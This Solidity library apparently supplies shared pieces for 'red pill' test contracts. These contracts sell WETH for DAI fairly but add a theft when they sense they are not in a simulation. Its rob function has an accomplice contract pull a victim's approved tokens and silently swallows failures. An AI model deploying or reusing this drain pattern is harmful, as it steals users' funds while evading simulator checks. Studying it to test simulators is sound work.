// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillDesk
/// @notice What the trading red pills have in common: a fair over-the-counter sale of WETH
///         for DAI at a fixed price near the market's, and the theft they add when they think
///         they run for real, through an accomplice the simulation never touches.
/// @dev Internal functions only: inlined into each red pill, so `msg.sender` is the buyer.
library RedPillDesk {
    /// @notice The desk's price: DAI (18 decimals) per whole WETH.
    struct Quote {
        IERC20 dai;
        IERC20 weth;
        uint256 daiPerWeth;
    }

    /// @notice Sells WETH for `daiIn` DAI to `msg.sender` at `q`'s price: pulls the DAI (the
    ///         buyer approved it), pays the WETH from the desk's inventory.
    /// @return wethOut WETH paid.
    function sell(Quote memory q, uint256 daiIn) internal returns (uint256 wethOut) {
        wethOut = daiIn * 1e18 / q.daiPerWeth;
        require(q.dai.transferFrom(msg.sender, address(this), daiIn), "DAI not paid");
        require(q.weth.transfer(msg.sender, wethOut), "WETH not sent");
    }

    /// @notice Asks `accomplice` to pull `amount` of its token from `victim`; a failure is
    ///         swallowed, so a theft that cannot happen never makes the victim's call revert.
    /// @return taken Whether the accomplice took it.
    function rob(address accomplice, address victim, uint256 amount) internal returns (bool taken) {
        (taken,) =
            accomplice.call(abi.encodeWithSignature("collect(address,uint256)", victim, amount));
    }
}
